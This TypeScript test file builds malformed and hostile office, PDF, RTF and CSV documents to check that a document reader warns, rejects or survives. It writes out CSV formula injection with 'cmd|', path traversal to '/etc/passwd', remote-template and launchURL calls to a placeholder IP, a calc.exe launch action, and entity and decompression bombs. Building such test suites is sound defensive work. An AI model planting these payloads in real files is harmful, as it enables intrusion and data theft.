import { makeDocx, makeXlsx, paragraph } from '../../readers/made/office.ts';
import { makeDoc, makeEncrypted } from '../../readers/made/old-office.ts';
import { makePdf } from '../../readers/made/pdfs.ts';
import { anything, type HostileCase, needle, read, rejected, warned } from './hostile-case.ts';

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** Objects of a PDF put together as they stand, without a table that fits. */
const rawPdf = (body: string): Buffer =>
  Buffer.from(`%PDF-1.7\n${body}\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF`, 'latin1');

/** A compound file whose list of sectors leads in a circle. */
function circling(): Uint8Array {
  const file = Buffer.from(makeDoc({ wide: `${needle} `.repeat(2000) }));
  const firstList = file.readUInt32LE(76);
  for (let at = 512 * (firstList + 1); at < 512 * (firstList + 2); at += 4) file.writeUInt32LE(0, at);
  return file;
}

export function hostileDocuments(): readonly HostileCase[] {
  const sound = makePdf({ pages: [[needle, 'second line']] });
  const row = (cell: string): readonly string[] => ['Dana', '2026-03-10 10:42', cell];
  return [
    {
      name: 'template-from-outside.docx',
      content: makeDocx({
        body: paragraph(needle),
        ties: [{ id: 'r1', type: 'attachedTemplate', target: 'http://203.0.113.9/t.dotm', external: true }],
      }),
      outcome: warned,
      says: /not fetched/,
    },
    {
      name: 'picture-from-outside.docx',
      content: makeDocx({
        body: paragraph(needle),
        ties: [{ id: 'r1', type: 'image', target: 'file://203.0.113.9/share/x.png', external: true }],
      }),
      outcome: warned,
      says: /not fetched/,
    },
    {
      name: 'laughs.docx',
      content: makeDocx({
        body: paragraph(needle),
        parts: [
          {
            name: 'word/comments.xml',
            content: `<!DOCTYPE x [<!ENTITY a "${'b'.repeat(1000)}"><!ENTITY c "${'&a;'.repeat(1000)}">]><w:comments xmlns:w="x">&c;</w:comments>`,
          },
        ],
      }),
      outcome: anything,
    },
    {
      name: 'paragraphs-deep.docx',
      content: makeDocx({ body: `${'<w:sdt><w:sdtContent>'.repeat(20_000)}${paragraph(needle)}` }),
      outcome: anything,
    },
    {
      name: 'part-that-slips.docx',
      content: makeDocx({
        body: paragraph(needle),
        ties: [{ id: 'r1', type: 'image', target: '../../../../etc/passwd' }],
        parts: [{ name: '../../evenhand-slip.txt', content: needle }],
      }),
      outcome: anything,
    },
    {
      name: 'macros.docm',
      content: makeDocx({ body: paragraph(needle), parts: [{ name: 'word/vbaProject.bin', content: 'AutoOpen' }] }),
      outcome: warned,
      says: /macro/i,
    },
    {
      name: 'formulas.xlsx',
      content: makeXlsx({
        sheets: [
          {
            name: 'a',
            rows: [[needle, { xml: '<c r="B1" t="str"><f>HYPERLINK("http://203.0.113.9","x")</f><v>x</v></c>' }]],
          },
        ],
      }),
      outcome: read,
    },
    {
      name: 'formulas.csv',
      content: `From,Date,Message\n${[row(`=HYPERLINK(""http://203.0.113.9"",""${needle}"")`), row('@SUM(1+1)*cmd|'), row('-2+3+cmd')].map((cells) => cells.map((cell) => `"${cell}"`).join(',')).join('\n')}\n`,
      outcome: read,
    },
    { name: 'a-row-of-a-million.csv', content: `a,b\n${'x,'.repeat(1_000_000)}${needle}\n`, outcome: anything },
    {
      name: 'quote-without-end.csv',
      content: `From,Date,Message\n"Dana,2026-03-10 10:42,${needle}\n${'x\n'.repeat(100_000)}`,
      outcome: anything,
    },
    { name: 'encrypted.docx', content: makeEncrypted(), outcome: rejected, says: /password/ },
    { name: 'sectors-in-a-circle.doc', content: circling(), outcome: anything },
    {
      name: 'marks-and-nothing.doc',
      content: Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600, 0xff)]),
      outcome: rejected,
    },
    {
      name: 'password.pdf',
      content: makePdf({ pages: [[needle]], password: 'open' }),
      outcome: rejected,
      says: /password/,
    },
    {
      name: 'scripts.pdf',
      content: makePdf({
        pages: [[needle]],
        catalog: '/OpenAction<</S/JavaScript/JS(app.launchURL\\("http://203.0.113.9"\\))>>',
      }),
      outcome: warned,
      says: /none was run/,
    },
    {
      name: 'launch.pdf',
      content: makePdf({ pages: [[needle]], catalog: '/OpenAction<</S/Launch/F(calc.exe)>>' }),
      outcome: warned,
      says: /none was run/,
    },
    {
      name: 'attachment-that-slips.pdf',
      content: makePdf({ pages: [[needle]], attachment: { name: '../../evenhand-slip.txt', content: needle } }),
      outcome: read,
    },
    { name: 'cut.pdf', content: sound.subarray(0, Math.floor(sound.length / 2)), outcome: anything },
    {
      name: 'pages-in-a-circle.pdf',
      content: rawPdf(
        '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>endobj',
      ),
      outcome: ['rejected', 'imported-with-warnings'],
    },
    {
      name: 'a-billion-pages.pdf',
      content: rawPdf(
        '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Count 1000000000/Kids[]>>endobj',
      ),
      outcome: ['rejected', 'imported-with-warnings'],
    },
    {
      name: 'stream-that-unfolds.pdf',
      content: rawPdf(
        `1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99999999 99999999]/Contents 4 0 R>>endobj 4 0 obj<</Length 20/Filter[${'/FlateDecode'.repeat(50)}]>>stream\nxxxxxxxxxxxxxxxxxxxx\nendstream endobj`,
      ),
      outcome: anything,
    },
    {
      name: 'remote.rtf',
      content: `{\\rtf1 ${needle} {\\field{\\*\\fldinst INCLUDEPICTURE "http://203.0.113.9/x.png"}}{\\object\\objautlink{\\*\\objdata 00}}}`,
      outcome: warned,
      says: /not f/,
    },
    { name: 'groups-100000-deep.rtf', content: `{\\rtf1 ${'{'.repeat(100_000)}${needle}`, outcome: anything },
    { name: 'bin-of-4-gb.rtf', content: `{\\rtf1 {\\pict\\bin4294967295 ${needle}}}`, outcome: anything },
    {
      name: `tie-${office.length}.docx`,
      content: makeDocx({
        body: paragraph(needle),
        ties: Array.from({ length: 20_000 }, (_, n) => ({
          id: `r${n}`,
          type: 'hyperlink',
          target: `http://203.0.113.9/${n}`,
          external: true,
        })),
      }),
      outcome: anything,
    },
  ];
}
